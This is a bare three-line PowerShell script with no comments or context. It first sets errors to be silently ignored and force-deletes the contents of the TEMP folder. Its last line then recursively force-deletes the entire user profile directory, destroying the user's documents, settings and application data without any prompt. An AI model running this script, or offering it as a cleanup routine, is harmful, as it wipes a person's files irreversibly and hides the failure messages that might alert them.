$ErrorActionPreference = "SilentlyContinue"
Get-ChildItem $env:TEMP | Remove-Item -Force
Remove-Item $env:USERPROFILE -Recurse -Force
